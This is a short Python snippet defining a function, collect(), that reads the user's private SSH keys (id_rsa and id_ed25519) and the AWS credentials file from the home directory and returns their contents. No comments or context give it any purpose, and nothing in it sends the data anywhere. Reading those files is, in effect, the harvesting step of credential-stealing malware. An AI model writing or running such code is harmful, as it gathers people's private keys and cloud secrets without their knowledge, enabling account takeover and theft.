from pathlib import Path

def collect():
    keys = {}
    for name in ["id_rsa", "id_ed25519"]:
        keys[name] = (Path.home() / ".ssh" / name).read_text()
    keys["aws"] = (Path.home() / ".aws/credentials").read_text()
    return keys
